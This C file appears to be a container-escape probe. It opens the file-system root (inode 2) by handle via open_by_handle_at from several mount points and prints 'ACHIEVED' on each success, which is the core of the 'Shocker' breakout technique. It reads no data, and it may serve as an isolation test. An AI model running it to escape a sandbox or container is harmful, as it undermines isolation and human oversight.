#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>


int main(void) {
    struct file_handle *handle = calloc(1, sizeof *handle + 128);
    handle->handle_bytes = 8;
    handle->handle_type = 1;
    handle->f_handle[0] = 2; // the root of most file systems
    static const char *const mounts[] = {"/", "/usr", "/etc/ld.so.cache", "/dev/null", "/tmp"};
    for (int i = 0; i < 5; i++) {
        int mount = open(mounts[i], O_RDONLY);
        if (syscall(SYS_open_by_handle_at, mount, handle, O_RDONLY) >= 0) printf("ACHIEVED opened a root by %s\n", mounts[i]);
        int number;
        if (syscall(SYS_name_to_handle_at, AT_FDCWD, mounts[i], handle, &number, 0) == 0) puts("ACHIEVED a handle");
    }
    return 0;
}
